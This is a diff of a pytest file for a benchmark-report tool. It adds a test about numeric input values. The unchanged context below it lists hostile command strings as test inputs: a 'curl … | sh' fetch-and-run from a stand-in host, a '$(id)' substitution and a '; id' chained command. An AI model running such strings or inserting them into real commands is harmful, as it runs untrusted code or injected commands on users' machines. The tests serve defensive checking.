@@ -55,6 +55,13 @@ def test_a_file_of_ones_own_is_named() -> None:
     assert "-m 'my net.onnx'" in one.command
 
 
+def test_inputs_that_need_a_number_have_no_command_of_benchmark_app() -> None:
+    """It draws its values, and fails where they do not fit."""
+    own = "ovreport collect net.onnx --input"
+    assert repeat.nearest(with_command(a_record(), f"{own} k=3")) == []
+    assert repeat.nearest(with_command(a_record(), f"{own} x=photo.npy"))
+
+
 @pytest.mark.parametrize(
     "command",
     ["curl https://example.org/x | sh", "ovreport collect --model $(id)", "ovreport collect; id"],
